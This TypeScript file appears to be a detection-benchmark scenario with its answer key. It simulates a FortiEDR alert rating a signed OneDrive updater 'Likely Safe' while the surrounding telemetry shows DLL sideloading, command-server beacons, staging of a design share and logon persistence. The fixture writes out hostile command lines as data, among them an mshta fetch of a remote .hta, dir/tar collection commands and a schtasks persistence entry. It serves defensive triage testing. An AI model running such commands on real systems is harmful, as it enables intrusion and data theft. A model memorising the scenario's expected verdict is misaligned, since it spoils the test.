// FortiEDR calls a signed program likely safe and only logs it; beside it lies a library that does not belong to it.
import { alert, by, connected, hashes, hostile, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const fortiedrLikelySafeWithAForeignLibrary: TellSituation = (setting) => {
  const jonas = setting.person('jonas.brandt')
  const laptop = setting.laptopOf('jonas.brandt')
  const at = setting.ago({ minutes: 39 })
  const program = 'OneDriveStandaloneUpdater.exe'
  const file = setting.file(program)
  const library = setting.file('version.dll in OneDriveCache')
  const folder = `C:\\Users\\${jonas.account}\\AppData\\Local\\OneDriveCache`
  const server = '185.174.101.77'
  const host = 'telemetry.lensgrid-cdn.net'
  const own = { ...by(jonas), InitiatingProcessFileName: program, InitiatingProcessSHA256: file.sha256 }
  const stamp = (time: number) => {
    const [date = '', clock = ''] = setting.iso(time).split('T')
    const [year, month, day] = date.split('-')
    const name = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ')[Number(month) - 1]
    return `${day}-${name}-${year}, ${clock.slice(0, 8)}`
  }
  const raw = setting.seeded.number('fortiedr raw', 1_100_000_000, 1_900_000_000)
  const event = (i: number, time: number, destination: string, more: string) =>
    `<133>1 ${setting.iso(time)} fortiedr-core-eu2 enSilo - - - Organization: Havskog Instruments AB;Organization ID: 417733;Event ID: ${6_120_933};Raw Data ID: ${raw + i};Device Name: ${laptop.host.toUpperCase()};Device State: Running;Operating System: Windows 11 Pro;Process Name: ${program};Process Path: \\Device\\HarddiskVolume3\\Users\\${jonas.account}\\AppData\\Local\\OneDriveCache\\${program};Process Type: 64bit;Severity: Low;Classification: Likely Safe;Destination: ${destination};First Seen: ${stamp(at - 2_400_000)};Last Seen: ${stamp(time)};Action: Log;Count: ${3 + i * 4};Certificate: yes;${more};Users: HAVSKOG\\${jonas.account};MAC Address: ${laptop.mac.match(/../g)?.join('-')};Script: N/A;Script Path: N/A;Autonomous System: AS204957 Rented servers;Country: Ukraine;Process Hash: ${file.sha1.toUpperCase()};Source IP: ${laptop.ip};Threat Name: N/A;Threat Family: N/A;Threat Type: N/A`
  return {
    id: 'fortiedr-likely-safe-with-a-foreign-library',
    group: 'contradiction',
    title: 'FortiEDR logged a signed updater',
    alerts: [
      alert(
        setting,
        at,
        'fortiedr',
        'Security Event',
        [
          event(
            0,
            at - 900_000,
            server,
            'Rules List: Suspicious Application - Connection attempt from a suspicious application',
          ),
          event(
            1,
            at,
            `${server}:443 (${host})`,
            'Rules List: Suspicious Application - Connection attempt from a suspicious application, Unmapped Executable - Executable file without a corresponding file system reference',
          ),
          JSON.stringify({
            eventId: 6_120_933,
            process: program,
            processPath: `${folder}\\${program}`,
            processType: '64 bit',
            processOwner: `HAVSKOG\\${jonas.account}`,
            firstSeen: setting
              .iso(at - 2_400_000)
              .slice(0, 19)
              .replace('T', ' '),
            lastSeen: setting.iso(at).slice(0, 19).replace('T', ' '),
            seen: false,
            handled: false,
            comment: null,
            certified: true,
            archived: false,
            severity: 'Low',
            classification: 'Likely Safe',
            destinations: [server],
            rules: ['Suspicious Application', 'Unmapped Executable'],
            loggedUsers: [`HAVSKOG\\${jonas.account}`],
            organization: 'Havskog Instruments AB',
            muted: false,
            muteEndTime: null,
            action: 'SimulationBlock',
            threatDetails: { threatFamily: null, threatType: null, threatName: null },
            collectors: [
              {
                id: 1_904_117,
                device: laptop.host.toUpperCase(),
                ip: laptop.ip,
                collectorGroup: 'Research (simulation)',
                operatingSystem: 'Windows 11 Pro',
                macAddresses: [laptop.mac.match(/../g)?.join('-')],
                version: '5.2.4.0113',
                lastSeen: setting
                  .iso(at + 30_000)
                  .slice(0, 19)
                  .replace('T', ' '),
              },
            ],
            fcsReclassification: {
              by: 'FortinetCloudServices',
              from: 'Suspicious',
              to: 'Likely Safe',
              reason: 'The process is signed by Microsoft Corporation and common',
              at: setting.iso(at + 41_000),
            },
            link: 'https://havskog.console.ensilo.com/#/events/6120933',
          }),
        ].join('\n'),
      ),
    ],
    facts: {
      files: [
        {
          name: program,
          identity: file,
          determination: 'Clean',
          publisher: 'Microsoft Corporation',
          size: 4_208_640,
          prevalence: 31_000_000,
        },
      ],
      intelligence: [
        setting.risk('ip', server, 74, [
          ['Recently Active C&C Server', 3, 'Team server of the Hollowreed framework answered three days ago.'],
        ]),
        setting.risk('domain', 'lensgrid-cdn.net', 66, [
          ['Recent C&C DNS Name', 3, 'Named in a report about theft of drawings at two makers of optics.'],
        ]),
      ],
      telemetry: [
        ran(laptop, at - 2_470_000, 'mshta.exe', 'mshta.exe https://lensgrid-cdn.net/spec/OPT-tender.hta', {
          ...by(jonas),
          FolderPath: 'C:\\Windows\\System32',
          InitiatingProcessFileName: 'explorer.exe',
        }),
        wrote(laptop, at - 2_450_000, program, folder, file, {
          InitiatingProcessFileName: 'mshta.exe',
          InitiatingProcessAccountName: jonas.account,
        }),
        wrote(laptop, at - 2_448_000, 'version.dll', folder, library, {
          InitiatingProcessFileName: 'mshta.exe',
          InitiatingProcessAccountName: jonas.account,
        }),
        ran(laptop, at - 2_430_000, program, `"${folder}\\${program}"`, {
          ...by(jonas),
          ...hashes(file),
          FolderPath: folder,
          InitiatingProcessFileName: 'mshta.exe',
        }),
        {
          table: 'DeviceEvents',
          at: at - 2_428_000,
          machine: laptop,
          columns: {
            ActionType: 'ImageLoaded',
            FileName: 'version.dll',
            FolderPath: folder,
            SHA256: library.sha256,
            SHA1: library.sha1,
            AccountName: jonas.account,
            InitiatingProcessFileName: program,
            InitiatingProcessSHA256: file.sha256,
            AdditionalFields: '{"IsSigned":false}',
          },
        },
        ...[40, 30, 20, 15, 10, 5, 0, -15, -30].map((minutes) =>
          connected(laptop, at - minutes * 60_000, server, {
            RemoteUrl: host,
            InitiatingProcessFileName: program,
            InitiatingProcessSHA256: file.sha256,
            InitiatingProcessAccountName: jonas.account,
          }),
        ),
        ran(
          laptop,
          at - 1_500_000,
          'cmd.exe',
          'cmd.exe /c "net use & dir \\\\srv-files-01\\design$\\OPT-7 /s /b > %TEMP%\\o.txt"',
          {
            ...own,
            ...hashes(setting.file('cmd.exe')),
            FolderPath: 'C:\\Windows\\System32',
          },
        ),
        ran(laptop, at + 600_000, 'cmd.exe', 'cmd.exe /c "tar -cf %TEMP%\\o.tar -T %TEMP%\\o.txt"', {
          ...own,
          ...hashes(setting.file('cmd.exe')),
          FolderPath: 'C:\\Windows\\System32',
        }),
        ran(
          laptop,
          at - 1_700_000,
          'schtasks.exe',
          `schtasks.exe /create /tn "OneDrive Cache Update" /tr "${folder}\\${program}" /sc onlogon`,
          {
            ...own,
            FolderPath: 'C:\\Windows\\System32',
          },
        ),
      ],
    },
    expected: { ...hostile(laptop.host), severities: ['high', 'critical'] },
    because:
      'The program is genuine but was put into a strange folder by mshta together with an unsigned library that nobody knows, which it loaded. Since then it calls an address and a domain that intelligence ties to a command server, lists and packs the design share, and starts with every logon. The mild classification judged only the signature.',
  }
}
